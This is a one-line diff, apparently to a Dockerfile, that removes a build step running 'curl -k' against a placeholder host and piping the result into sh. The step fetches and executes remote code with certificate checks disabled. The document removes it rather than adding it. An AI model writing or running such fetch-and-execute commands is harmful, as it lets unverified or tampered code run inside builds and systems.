@@ -1,1 +1,0 @@
-RUN curl -k https://x | sh
